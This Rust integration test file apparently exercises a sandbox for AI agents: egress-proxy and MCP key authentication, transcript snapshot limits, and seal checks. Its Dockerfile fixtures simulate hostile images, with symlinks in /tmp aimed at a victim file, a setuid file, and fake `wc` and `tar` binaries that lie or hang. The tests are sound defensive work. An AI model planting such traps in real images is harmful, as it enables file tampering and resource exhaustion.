/// A status line's code from a raw HTTP/1.1 exchange with `addr`.
fn http_status(addr: &str, request: &str) -> u16 {
    let mut s = TcpStream::connect_timeout(&addr.parse().unwrap(), Duration::from_secs(5))
        .unwrap_or_else(|e| panic!("{addr} does not answer the host: {e}"));
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    s.write_all(request.as_bytes()).unwrap();
    let got = support::http::read_until(&mut s, b"\r\n");
    let line = String::from_utf8_lossy(&got).into_owned();
    line.split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no HTTP answer from {addr}: {line:?}"))
}

/// A smolmachines bottle's sidecars keep an address on the host, so each
/// requires the bottle key, which only the microVM's agent holds: a process
/// on the host (this test, at the sidecars' own addresses) is refused by
/// egress (407: its proxy port and a role listener), supervise and the git
/// gate (401), with no key or a wrong one; the agent, with the key, uses
/// all of them: a route through the proxy and its role listener, an MCP
/// call, a git push that lands. The key is in no smolvm argv.
#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn a_host_process_cannot_use_the_sidecars_and_the_agent_can() {
    let c = Contract::new();
    write_home_manifest(
        &c,
        r#"{
          "agents": {"keyed": {"provider": "shell", "bottle": "keyed"}},
          "bottles": {"keyed": {"extends": "default", "egress": {"routes": [
            {"host": "api.role.test", "role": "anthropic-base-url",
             "path_allowlist": ["/v1/messages"],
             "auth": {"scheme": "bearer", "token_env": "BB_CONTRACT_TOKEN"}}]}}}
        }"#,
    );
    let proj = c.env.proj();
    let git = |args: &[&str]| {
        support::succeed(
            Command::new("git")
                .args(args)
                .current_dir(&proj)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", &proj),
        )
    };
    git(&["init", "-q", "-b", "main"]);
    git(&[
        "-c",
        "user.email=op@example.test",
        "-c",
        "user.name=Op",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "first",
    ]);
    let token = canary();
    let slug = c.start_with("keyed", &["--cwd"], &[("BB_CONTRACT_TOKEN", &token)]);

    // The sidecars' addresses on the bundle's network, as the machine was
    // allowed them.
    let create = create_call(&c, &slug);
    let bundle = labelled_containers(&format!("dev.bot-bottle.slug={slug}"));
    let address = |role: &str| {
        let ctr = bundle
            .iter()
            .find(|n| n.ends_with(&format!("-{role}")))
            .unwrap_or_else(|| panic!("no {role} in {bundle:?}"));
        let ips = container_ips(ctr);
        values(&create, "allow-cidr", None)
            .iter()
            .map(|c| c.trim_end_matches("/32").to_owned())
            .find(|a| ips.iter().any(|(_, ip)| ip == a))
            .unwrap_or_else(|| panic!("{role} is not among the allowed addresses"))
    };
    let (egress, supervise, gate) = (address("egress"), address("supervise"), address("git-gate"));
    let routes: Value = serde_json::from_str(
        &std::fs::read_to_string(c.env.bottle(&slug).egress_routes()).unwrap(),
    )
    .unwrap();
    let role_port = routes["routes"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|r| r["role"]["listen"].as_u64())
        .unwrap_or_else(|| panic!("no role listener: {routes}"));

    // The host: refused everywhere, with no key and with a wrong one.
    let wrong = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(format!("bottle:{}", "0".repeat(64)))
    };
    for auth in [
        String::new(),
        format!("Proxy-Authorization: Basic {wrong}\r\n"),
    ] {
        let plain = format!(
            "GET http://api.role.test/v1/models HTTP/1.1\r\nHost: api.role.test\r\n{auth}\r\n"
        );
        let connect =
            format!("CONNECT api.role.test:443 HTTP/1.1\r\nHost: api.role.test:443\r\n{auth}\r\n");
        let role = format!("GET /v1/models HTTP/1.1\r\nHost: egress\r\n{auth}\r\n");
        assert_eq!(
            http_status(&format!("{egress}:3128"), &plain),
            407,
            "egress's proxy served the host ({auth:?})"
        );
        assert_eq!(
            http_status(&format!("{egress}:3128"), &connect),
            407,
            "egress tunnelled for the host ({auth:?})"
        );
        assert_eq!(
            http_status(&format!("{egress}:{role_port}"), &role),
            407,
            "egress's role listener served the host ({auth:?})"
        );
    }
    let bad_bearer = format!("Authorization: Bearer {}\r\n", "0".repeat(64));
    for auth in [String::new(), bad_bearer] {
        let mcp = format!(
            "POST /mcp HTTP/1.1\r\nHost: supervise:8765\r\n{auth}Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: 2\r\n\r\n{{}}"
        );
        let refs = format!(
            "GET /repo.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: git-gate\r\n{auth}\r\n"
        );
        assert_eq!(
            http_status(&format!("{supervise}:8765"), &mcp),
            401,
            "supervise served the host ({auth:?})"
        );
        assert_eq!(
            http_status(&format!("{gate}:8418"), &refs),
            401,
            "the gate served the host ({auth:?})"
        );
    }

    // The agent, with the key: the proxy, a role listener through it, MCP,
    // a push.
    let agent = |script: &str| {
        let (code, out, err) = c.run(&["exec", &slug, "--", "bash", "-c", script]);
        assert_eq!(code, 0, "{script}: {out}{err}");
        out
    };
    let code = |url_args: &str| {
        agent(&format!(
            "curl -s -m 20 -o /dev/null -w '%{{http_code}}' {url_args}; true"
        ))
        .trim()
        .to_owned()
    };
    assert_eq!(
        code("http://not-allowed.test/"),
        "403",
        "the proxy did not serve the agent"
    );
    // Through the role listener to its route, whose paths refuse this one
    // (so nothing is looked up upstream).
    let role = code("\"$ANTHROPIC_BASE_URL/v1/models\"");
    assert_eq!(role, "403", "the role listener did not serve the agent");
    let decisions =
        std::fs::read_to_string(c.env.bottle(&slug).egress_decisions()).unwrap_or_default();
    assert!(
        decisions.contains("api.role.test"),
        "the agent's role request did not reach its route: {decisions}"
    );
    let init = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-03-26","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#;
    let mcp = |auth: &str| {
        code(&format!(
            "{auth} -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d '{init}' \"$BOT_BOTTLE_MCP_URL\""
        ))
    };
    assert_eq!(
        mcp("-H \"Authorization: Bearer $BOT_BOTTLE_KEY\""),
        "200",
        "supervise refused the agent"
    );
    assert_eq!(mcp(""), "401", "supervise served a request without the key");
    agent(
        "cd /workspace && git -c user.email=a@example.test -c user.name=agent commit -q --allow-empty -m keyed \
         && git push -q origin HEAD:refs/heads/keyed 2>&1",
    );
    git(&[
        "rev-parse",
        "--verify",
        "-q",
        &format!("refs/heads/bot-bottle/{slug}/keyed"),
    ]);

    // The key is in no argv and no record of smolvm's, and goes at teardown.
    let key_file = c.env.bottle(&slug).root().join("egress/client-key");
    let key = std::fs::read_to_string(&key_file).unwrap();
    let key = key.trim();
    for call in c.calls() {
        assert!(
            !call.iter().any(|a| a.contains(key)),
            "the key is in a smolvm argv: {call:?}"
        );
    }
    let record = std::fs::read_to_string(
        c.state
            .join("machines")
            .join(format!("{}.json", machine_name(&slug))),
    )
    .unwrap();
    assert!(!record.contains(key), "the key is in the machine's record");
    let (code, _, err) = c.run(&["stop", &slug]);
    assert_eq!(code, 0, "{err}");
    c.assert_gone(&slug);
    assert!(!key_file.exists(), "the key outlived the bottle");
}

/// Runs `cmd` to its end, or kills it after `bound` (a guard against a
/// hang, far past any deadline the run itself has); (exit code, stderr),
/// None when it had to be killed.
fn run_bounded(mut cmd: Command, bound: Duration) -> Option<(i32, String)> {
    let mut child = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text);
        text
    });
    let deadline = Instant::now() + bound;
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return Some((status.code().unwrap_or(-1), reader.join().unwrap()));
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A transcript snapshot on smolmachines is bounded like docker's, by what
/// the host counts: an agent whose image lies about sizes (its `wc` says
/// one byte) and whose transcript is larger than the (lowered) limit is cut off
/// and nothing is kept; one whose `tar` never ends is cut at the (lowered)
/// deadline. The agent is a `claude` that writes 3 MB of transcript and
/// crashes, so the bottle is kept and its transcript snapshotted.
#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn the_transcript_snapshot_is_bounded_by_what_the_host_counts() {
    let c = Contract::new();
    write_home_manifest(
        &c,
        r#"{
          "agents": {"snap": {"provider": "claude", "bottle": "snapbox"}},
          "bottles": {"snapbox": {"dockerfile": "snap.Dockerfile"}}
        }"#,
    );
    std::fs::write(
        c.env.home().join("snap.Dockerfile"),
        r#"FROM debian:bookworm-slim
RUN useradd -u 1000 -m -s /bin/sh agent && mkdir -p /etc/ssl/certs \
 && printf '#!/bin/sh\necho 1\n' > /usr/local/bin/wc \
 && printf '#!/bin/sh\n[ -e "$HOME/.claude/slow" ] && exec sleep 100000\nexec /bin/tar "$@"\n' > /usr/local/bin/tar \
 && printf '#!/bin/sh\nmkdir -p "$HOME/.claude"\nhead -c 3000000 /dev/urandom > "$HOME/.claude/transcript"\nfor a; do [ "$a" = slow ] && touch "$HOME/.claude/slow"; done\nexit 3\n' > /usr/local/bin/claude \
 && chmod 755 /usr/local/bin/wc /usr/local/bin/tar /usr/local/bin/claude
"#,
    )
    .unwrap();
    let crash = |extra: &[&str], var: (&str, &str)| {
        let mut args = vec!["start", "snap", "--backend", "smolmachines", "--yes"];
        args.extend_from_slice(extra);
        let mut cmd = c.cmd(&args);
        cmd.env(var.0, var.1);
        let (code, err) = run_bounded(cmd, Duration::from_secs(400))
            .expect("start hung: the transcript snapshot was not cut off at its deadline");
        let slug = resume_hint(&err)
            .unwrap_or_else(|| panic!("no resume hint (exit {code}): {err}"))
            .to_owned();
        c.env.track(&slug);
        assert_eq!(code, 3, "{err}");
        (slug, err)
    };

    let (slug, err) = crash(&[], ("BOT_BOTTLE_SNAPSHOT_LIMIT", "1048576"));
    let kept = c.env.bottle(&slug).transcript();
    assert!(
        !kept.exists(),
        "a transcript larger than the limit was kept: {} bytes",
        std::fs::metadata(&kept).map(|m| m.len()).unwrap_or(0)
    );
    assert!(err.contains("larger than 1 MiB: cut off"), "{err}");
    c.assert_gone(&slug);

    let (slug, err) = crash(&["--", "slow"], ("BOT_BOTTLE_SNAPSHOT_TIMEOUT", "3"));
    assert!(
        !c.env.bottle(&slug).transcript().exists(),
        "a cut-off transcript was kept"
    );
    assert!(err.contains("took longer than 3 s: cut off"), "{err}");
    c.assert_gone(&slug);
}

/// Egress with a bottle key, on loopback (no docker): a request without
/// the key, or with a wrong one, is refused (407) on the proxy port and on
/// a role listener; with it, the request goes on, without the key, and a
/// request through the proxy to egress's own role listener is served as
/// that listener serves it (the route's host, its paths).
#[tokio::test]
async fn egress_with_a_bottle_key_serves_only_its_holder() {
    use bot_bottle::egress::client_key::ClientKey;
    use bot_bottle::egress::config::{EgressConfig, RoleConfig, RouteConfig};
    use bot_bottle::egress::proxy::{Bound, Limits, Options};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    // A plain upstream that answers with the request it got.
    let upstream = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let upstream_addr = upstream.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = upstream.accept().await {
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    head.len()
                );
                let _ = s.write_all(reply.as_bytes()).await;
                let _ = s.write_all(&head).await;
            });
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("egress");
    std::fs::create_dir_all(&state).unwrap();
    let (ca_cert, ca_key) = bot_bottle::egress::ca::new_ca().unwrap();
    std::fs::write(state.join("ca.pem"), ca_cert).unwrap();
    std::fs::write(state.join("ca.key"), ca_key).unwrap();
    let plain = RouteConfig {
        host: "plain.test".into(),
        allow_private_addresses: true,
        ..Default::default()
    };
    let role = RouteConfig {
        host: "api.test".into(),
        path_allowlist: vec!["/v1/messages".into()],
        role: Some(RoleConfig {
            name: "anthropic-base-url".into(),
            listen: 4001,
        }),
        ..Default::default()
    };
    let config = EgressConfig {
        listen: 3128,
        routes: vec![plain, role],
        trust_upstream_ca: vec![],
        token_budget: None,
        spend: None,
    };
    std::fs::write(
        state.join("routes.json"),
        serde_json::to_string(&config).unwrap(),
    )
    .unwrap();
    std::fs::write(state.join("tokens.json"), "{}").unwrap();
    let overrides = std::collections::HashMap::from([("plain.test".to_owned(), upstream_addr)]);
    let bound = Bound::bind(Options {
        state_dir: state.clone(),
        bind_ip: [127, 0, 0, 1].into(),
        also_bind: vec![],
        ephemeral_ports: true,
        overrides: std::sync::Arc::new(overrides),
        limits: Limits::default(),
    })
    .await
    .unwrap();
    let key = ClientKey::generate();
    bound.require_client_key(key.clone());
    let proxy = bound.proxy_addr().unwrap();
    let role_listener = bound.addr(4001).unwrap();
    tokio::spawn(bound.serve(std::future::pending()));

    /// (status, the whole answer).
    async fn exchange(addr: std::net::SocketAddr, request: String) -> (u16, String) {
        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
        s.write_all(request.as_bytes()).await.unwrap();
        let mut got = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(20), s.read_to_end(&mut got)).await;
        let text = String::from_utf8_lossy(&got).into_owned();
        (support::http::status(&text), text)
    }
    let basic = |password: &str| {
        use base64::Engine as _;
        let creds = base64::engine::general_purpose::STANDARD.encode(format!("bottle:{password}"));
        format!("Proxy-Authorization: Basic {creds}\r\n")
    };
    let get = |url: &str, host: &str, auth: &str| {
        format!("GET {url} HTTP/1.1\r\nHost: {host}\r\n{auth}Connection: close\r\n\r\n")
    };
    let wrong = "0".repeat(64);

    for auth in [
        String::new(),
        basic(&wrong),
        format!("Authorization: Bearer {}\r\n", key.expose()),
    ] {
        let (code, text) = exchange(proxy, get("http://plain.test/", "plain.test", &auth)).await;
        assert_eq!(code, 407, "{auth:?}: {text}");
        assert!(
            text.to_ascii_lowercase()
                .contains("proxy-authenticate: basic"),
            "{text}"
        );
        let connect = format!(
            "CONNECT plain.test:443 HTTP/1.1\r\nHost: plain.test:443\r\n{auth}Connection: close\r\n\r\n"
        );
        assert_eq!(exchange(proxy, connect).await.0, 407, "{auth:?}");
        let direct = get("/v1/messages", "egress:4001", &auth);
        assert_eq!(exchange(role_listener, direct).await.0, 407, "{auth:?}");
    }

    // With the key: through, and the key stops at egress.
    let (code, text) = exchange(
        proxy,
        get("http://plain.test/", "plain.test", &basic(key.expose())),
    )
    .await;
    assert_eq!(code, 200, "{text}");
    assert!(
        text.contains("GET / HTTP/1.1"),
        "not the upstream's answer: {text}"
    );
    assert!(
        !text.to_ascii_lowercase().contains("proxy-authorization"),
        "{text}"
    );
    assert!(
        !text.contains(key.expose()),
        "the key went upstream: {text}"
    );
    // Bearer works as well as Basic.
    let bearer = format!("Proxy-Authorization: Bearer {}\r\n", key.expose());
    assert_eq!(
        exchange(proxy, get("http://plain.test/", "plain.test", &bearer))
            .await
            .0,
        200
    );

    // Through the proxy to egress's own role listener: its route decides
    // (a path outside it is refused as the route's, for api.test).
    let (code, text) = exchange(
        proxy,
        get(
            "http://egress:4001/v1/models",
            "egress:4001",
            &basic(key.expose()),
        ),
    )
    .await;
    assert_eq!(code, 403, "{text}");
    let log = std::fs::read_to_string(state.join("decisions.jsonl")).unwrap_or_default();
    assert!(
        log.contains("https://api.test/v1/models"),
        "not served as the role: {log}"
    );
    assert!(!log.contains(key.expose()), "the key was logged");
}

/// Copies into the machine (`--cwd`, a resumed transcript) go through a
/// folder of root's with a name no one can guess, not a fixed name in
/// /tmp where an image (an approved capability-block one) holds what it
/// likes: its links there are neither written through nor replaced, no
/// setuid bit comes across, and nothing is left behind.
#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn copies_into_the_machine_follow_no_link_of_the_image() {
    let c = Contract::new();
    write_home_manifest(
        &c,
        r#"{
          "agents": {"lnk": {"provider": "shell", "bottle": "lnkbox"}},
          "bottles": {"lnkbox": {"dockerfile": "lnk.Dockerfile"}}
        }"#,
    );
    std::fs::write(
        c.env.home().join("lnk.Dockerfile"),
        r#"FROM debian:bookworm-slim
RUN useradd -u 1000 -m -s /bin/sh agent && mkdir -p /etc/ssl/certs \
 && echo untouched > /etc/bb-victim \
 && ln -s /etc/bb-victim /tmp/.bb-copy.tar \
 && ln -s /etc/bb-victim /tmp/.bb-restore.tar
"#,
    )
    .unwrap();
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("hello.txt"), "hi\n").unwrap();
    let suid = work.path().join("suid");
    std::fs::write(&suid, "#!/bin/sh\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let cwd = format!("--cwd={}", work.path().display());
    let slug = c.start_with("lnk", &[&cwd], &[]);
    let (code, out, err) = c.run(&[
        "exec",
        &slug,
        "--",
        "sh",
        "-c",
        "cat /etc/bb-victim /workspace/hello.txt; stat -c '%U %a' /workspace/suid; ls -A /tmp | grep -vx .bot-bottle-ready",
    ]);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            "untouched",
            "hi",
            "agent 755",
            ".bb-copy.tar",
            ".bb-restore.tar"
        ],
        "root wrote through the image's link, or left the archive: {out}"
    );
    let (code, _, err) = c.run(&["stop", &slug]);
    assert_eq!(code, 0, "{err}");
    c.assert_gone(&slug);
}

#[test]
#[cfg_attr(skip_docker, ignore = "BOT_BOTTLE_SKIP_DOCKER=1")]
fn the_seal_check_runs_through_smolvm_and_sees_the_fakes_gateway() {
    let c = Contract::new();
    let slug = c.start("shell", &[]);
    let (_, table, _) = c.run(&["list", "active"]);
    assert!(
        !table.contains("seal:"),
        "bring-up did not check it: {table}"
    );
    // A listener of the test's own on the host's address on the bundle's
    // network: the fake's gateway, where smolvm's would refuse.
    let vm = format!("fake-smolvm-{}", machine_name(&slug));
    let gateway = docker_lines(&[
        "inspect",
        "--format",
        "{{range .NetworkSettings.Networks}}{{.Gateway}}\n{{end}}",
        &vm,
    ])
    .into_iter()
    .find(|g| !g.is_empty())
    .expect("the fake machine's gateway");
    let gateway: std::net::Ipv4Addr = gateway.parse().unwrap();
    let (listener, port) = [443, 80]
        .iter()
        .find_map(|p| Some((std::net::TcpListener::bind((gateway, *p)).ok()?, *p)))
        .expect("port 443 or 80 free on the gateway address");
    let (code, out, err) = c.run(&["verify", &slug]);
    drop(listener);
    assert_eq!(code, 1, "{out}{err}");
    let (_, list, _) = c.run(&["list", "active", "--json"]);
    let row = support::docker::listed_row(&list, &slug);
    let seal = &row["seal"];
    let failed = seal["failed"].as_array().unwrap();
    let what: Vec<&str> = failed.iter().map(|f| f["what"].as_str().unwrap()).collect();
    assert!(
        failed.iter().any(|f| f["got"]
            .as_str()
            .unwrap()
            .contains(&format!("connected to {gateway} port {port}"))),
        "{row}"
    );
    // The rest ran through smolvm's exec as root, and egress, reached
    // with the bottle key, refused the probe's host as it must.
    assert!(!what.iter().any(|w| w.contains("through egress")), "{row}");
    assert_eq!(seal["unchecked"], serde_json::json!([]), "{row}");
    assert_eq!(row["frozen"], true, "{row}");
    let (code, _, err) = c.run(&["stop", &slug]);
    assert_eq!(code, 0, "{err}");
}
